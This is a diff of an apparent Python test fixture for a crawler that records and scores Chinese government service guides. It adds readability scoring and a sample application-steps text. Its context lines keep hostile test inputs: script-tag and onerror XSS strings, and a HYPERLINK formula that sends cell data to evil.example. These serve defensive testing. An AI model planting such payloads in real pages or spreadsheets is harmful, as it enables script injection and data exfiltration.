@@ -14,6 +14,7 @@ from domain.outcome import Outcome
 from domain.review import Review, ReviewVerdict
 from domain.run import Run, RunKind, RunState
 from domain.score import Score, ScoreState, UnitTotal
+from readability.features import read_guide
 from storage.store import Store
 
 START = datetime(2026, 11, 22, 17, 30, 5, tzinfo=UTC)  # 2026-11-23 01:30:05 in Beijing
@@ -30,6 +31,9 @@ RULE_TITLES = {
 SCRIPT = "<script>document.title='pwned'</script>"
 BROKEN_OUT = '"><img src=x onerror="document.title=\'pwned\'">'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+FLOW = """1.到窗口交表，材料不全可以容缺受理。
+2.领取受理通知书（窗口收下后给的凭据）。
+3.使用海域的，另办用海手续。"""
 REVIEWED_ITEM = "gdzwfw-dept-01-0"
 
 
@@ -105,10 +109,11 @@ def make_guide(listed: ListedGuide, document: str) -> Guide:
         FieldName.HOURS: read("周一至周五\r\n08:30-12:00\r\n14:30-17:30"),
         FieldName.ENQUIRY_PHONE: read("-3366001"),
         FieldName.COMPLAINT_PHONE: read(""),
+        FieldName.WINDOW_FLOW: read(FLOW),
         FieldName.CONDITION: Field(raw=None, value="", state=FieldState.NOT_MEASURED),
     }
     return Guide(
-        **listed.model_dump(),
+        **listed.model_dump(exclude={"version"}),
         document=document,
         captured_at=START,
         parser="gdzwfw-item/1",
@@ -304,7 +309,9 @@ def fill_guides(store: Store, run: Run, listed: list[ListedGuide], unseen: int) 
         )
         for guide in measured
     }
-    store.guides.save(make_guide(guide, documents[guide.item_id]) for guide in measured)
+    guides = [make_guide(guide, documents[guide.item_id]) for guide in measured]
+    store.guides.save(guides)
+    store.readability.save(run.id, map(read_guide, guides))
     missed = [make_visit(guide, GuideOutcome.NOT_MEASURED) for guide in listed[len(measured) :]]
     store.crawls.save_visits(
         run.id, [make_visit(guide, document=documents[guide.item_id]) for guide in measured] + missed
